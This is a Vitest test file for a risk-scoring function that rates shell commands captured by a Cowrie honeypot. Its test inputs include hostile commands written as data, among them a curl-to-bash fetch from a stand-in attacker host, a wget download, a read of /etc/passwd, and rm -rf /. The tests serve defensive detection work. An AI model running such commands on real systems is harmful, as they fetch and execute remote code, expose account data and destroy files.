import { describe, expect, it } from 'vitest';
import { eventRiskScore, FILE_DOWNLOAD_EVENTID } from '../../src/commands/index.js';

describe('eventRiskScore (predecessor BulkLoader _score_event)', () => {
  it('cowrieprocessor.md §3.4 examples in a cowrie.command.input event', () => {
    expect(eventRiskScore('cowrie.command.input', 'wget http://x/a.sh')).toBe(100); // 70 + 20 + 10
    expect(eventRiskScore('cowrie.command.input', 'cat /etc/passwd')).toBe(10); // 0 + 10
    expect(eventRiskScore('cowrie.command.input', 'rm -rf /')).toBe(80); // 70 + 10
  });

  it('cd /tmp/ (with slash) scores 60: safe → moderate 30 + pattern 20 + command 10', () => {
    expect(eventRiskScore('cowrie.command.input', 'cd /tmp/')).toBe(60);
  });

  it('DOCUMENTED CONFLICT: `cd /tmp` scores 10, not the 60 of cowrieprocessor.md §3.4', () => {
    // predecessor-details.md §1.2 (read from source): "/tmp without trailing slash … not suspicious";
    // the predecessor's own loader test expects `rm -rf /tmp` (70 + 10 = 80) not to be quarantined,
    // which only holds if `/tmp` is not a pattern. §3.4's 30+20+10 example contradicts both.
    expect(eventRiskScore('cowrie.command.input', 'cd /tmp')).toBe(10);
    expect(eventRiskScore('cowrie.command.input', 'rm -rf /tmp')).toBe(80);
  });

  it('§1.8 note: curl … | bash in a command event reaches 100', () => {
    expect(eventRiskScore('cowrie.command.input', 'curl -s https://evil.example/a | bash')).toBe(100);
  });

  it('+10 for any eventid containing "command", only when there is input', () => {
    expect(eventRiskScore('cowrie.command.failed', 'ls')).toBe(10);
    expect(eventRiskScore('cowrie.command.input', '   ')).toBe(10);
    expect(eventRiskScore('cowrie.command.input', '')).toBe(0);
    expect(eventRiskScore('cowrie.command.input', null)).toBe(0);
    expect(eventRiskScore('cowrie.login.success', 'ls')).toBe(0);
    expect(eventRiskScore('cowrie.COMMAND.input', 'ls')).toBe(0);
  });

  it('+20 for cowrie.session.file_download exactly, with or without input; capped at 100', () => {
    expect(eventRiskScore(FILE_DOWNLOAD_EVENTID, undefined)).toBe(20);
    expect(eventRiskScore('cowrie.session.file_download', 'wget http://x/a')).toBe(100);
    expect(eventRiskScore('cowrie.session.file_download', 'uname')).toBe(50);
    expect(eventRiskScore('cowrie.session.file_download_x', undefined)).toBe(0);
    expect(eventRiskScore('cowrie.session.file_upload', undefined)).toBe(0);
  });

  it('does not throw on non-string arguments from untyped callers', () => {
    expect(eventRiskScore(undefined as unknown as string, 42 as unknown as string)).toBe(0);
  });
});
